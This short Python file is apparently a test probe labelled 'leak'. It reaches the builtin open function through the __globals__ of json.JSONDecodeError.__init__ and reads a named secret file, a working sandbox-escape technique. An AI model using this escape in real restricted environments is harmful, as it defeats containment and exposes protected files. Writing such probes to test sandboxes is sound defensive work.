# effect: leak
import json


def attempt(probe):
    inside = json.JSONDecodeError.__init__.__globals__
    return inside["__builtins__"]["open"](probe["secret_file"]).read()
